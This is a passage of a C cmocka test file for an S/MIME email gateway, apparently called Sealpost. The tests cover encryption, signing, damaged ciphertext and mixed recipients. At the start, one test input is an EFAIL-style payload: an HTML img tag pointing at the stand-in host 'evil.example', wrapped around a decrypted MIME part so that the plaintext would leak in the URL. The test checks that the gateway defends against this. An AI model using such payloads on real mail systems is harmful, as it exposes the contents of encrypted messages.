                  "<img src=\"http://evil.example/\r\n--b\r\n%.*s\r\n--b\r\nContent-Type: "
                  "text/html\r\n\r\n\">\r\n--b--\r\n",
                  SLICE_ARGS(buf_slice(&part))));
    world_process(&w, PARTNER, (const char *const[]){OURS, NULL}, buf_slice(&message));
    world_assert_accepted(&w);
    struct slice content = buf_slice(&w.out.contents[0]);
    assert_true(slice_starts_with(
        content, SLICE_LITERAL("X-Sealpost-Signature: none\r\nX-Sealpost-Encryption: none\r\n")));
    assert_true(
        slice_equal(slice_of(content.data + content.len - message.len, message.len), buf_slice(&message)));
    buf_release(&part);
    buf_release(&message);
}

static void damaged_ciphertext_is_delivered_closed(void **state)
{
    (void)state;
    struct buf message = BUF_INIT(1 << 20);
    world_file_write(&w, "inner", slice_of_text(inner));
    world_shell(&w, "openssl cms -encrypt -binary -in inner -aes-256-gcm " HEADERS " -out msg alice.pem");
    world_message_read(&w, "msg", &message);
    for (size_t i = message.len - 60; i > message.len / 2; i -= 37) { /* somewhere in the base64 */
        uint8_t before = message.data[i];
        if (before == '\r' || before == '\n' || before == '=') {
            continue;
        }
        message.data[i] = before == 'A' ? 'B' : 'A';
        world_process(&w, PARTNER, (const char *const[]){OURS, NULL}, buf_slice(&message));
        world_assert_accepted(&w);
        assert_false(slice_holds(buf_slice(&w.out.contents[0]), "Gr\xc3\xbc"));
        message.data[i] = before;
    }
    buf_release(&message);
}

static void ours_and_theirs_in_one_message(void **state)
{
    (void)state;
    world_process_text(&w, OURS, (const char *const[]){"dave@ours.example", PARTNER, NULL}, plain);
    world_assert_accepted(&w);
    assert_int_equal(w.out.result.variant_count, 2);
    assert_slice(w.out.result.variants[world_variant_of(&w, 0)].protection, "none");
    assert_slice(w.out.result.variants[world_variant_of(&w, 1)].protection, "smime-signed-encrypted");
    assert_true(slice_holds(buf_slice(&w.out.contents[world_variant_of(&w, 0)]), "The plan is simple."));
    assert_false(slice_holds(buf_slice(&w.out.contents[world_variant_of(&w, 1)]), "The plan is simple."));
}

static void what_left_comes_in_again(void **state)
{
    (void)state;
    struct buf sent = BUF_INIT(1 << 20);
    /* From one of ours to another through the outside: dave's domain is external for a moment. */
    world_set(&w, SETTING_DOMAIN, "ours.example", "domain.locality", "external");
    world_process_text(&w, OURS, (const char *const[]){"dave@ours.example", NULL}, attachment);
    world_assert_accepted(&w);
    assert_slice(w.out.result.variants[0].protection, "smime-signed-encrypted");
    OK(buf_append_slice(&sent, buf_slice(&w.out.contents[0])));
    /* Already encrypted: it passes as it is, and counts as protected. */
    world_set(&w, SETTING_DOMAIN, "partner.example", "encrypt.mode", "mandatory");
    world_process(&w, OURS, (const char *const[]){"nobody@partner.example", NULL}, buf_slice(&sent));
    world_assert_accepted(&w);
    assert_true(w.out.result.variants[0].unchanged);
    world_set(&w, SETTING_DOMAIN, "partner.example", "encrypt.mode", "opportunistic");
    world_set(&w, SETTING_DOMAIN, "ours.example", "domain.locality", "internal");
    world_process(&w, OURS, (const char *const[]){"dave@ours.example", NULL}, buf_slice(&sent));
    world_assert_accepted(&w);
    struct slice content = buf_slice(&w.out.contents[0]);
    assert_true(slice_starts_with(
        content, SLICE_LITERAL("X-Sealpost-Signature: valid; signer=alice@ours.example; protocol=smime; ")));
    assert_true(slice_holds(content, "; covers=message\r\n"
                                     "X-Sealpost-Encryption: decrypted; protocol=smime; cipher="));
    assert_true(slice_holds(content, "X-Sealpost-Headers: signed-and-encrypted\r\n"));
    assert_true(slice_holds(content, "Content-Type: multipart/signed"));
    assert_true(slice_holds(content, "Subject: with attachment\r\n"));
    buf_release(&sent);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(encrypts_and_signs),
        cmocka_unit_test(gcm_when_all_know_it),
        cmocka_unit_test(signs_clear_and_7bit),
        cmocka_unit_test(encrypted_content_keeps_its_bytes),
        cmocka_unit_test(blind_recipients_stay_blind),
        cmocka_unit_test(mandatory_refuses_for_all),
        cmocka_unit_test(split_serves_the_others),
        cmocka_unit_test(a_lost_key_lets_nothing_out),
        cmocka_unit_test(plain_leaves_byte_for_byte),
        cmocka_unit_test(a_key_is_issued_on_demand),
        cmocka_unit_test(bad_input_is_refused),
        cmocka_unit_test(opens_what_openssl_made),
        cmocka_unit_test(verdicts_are_told),
        cmocka_unit_test(changed_after_signing_is_invalid),
        cmocka_unit_test(forged_verdicts_go),
        cmocka_unit_test(only_the_recipients_own_key_opens),
        cmocka_unit_test(an_added_recipient_gets_nothing),
        cmocka_unit_test(what_is_protected_already),
        cmocka_unit_test(intermediates_go_along),
        cmocka_unit_test(expired_keys_still_open),
        cmocka_unit_test(an_encrypted_part_beside_others_stays_closed),
        cmocka_unit_test(damaged_ciphertext_is_delivered_closed),
        cmocka_unit_test(ours_and_theirs_in_one_message),
        cmocka_unit_test(what_left_comes_in_again),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
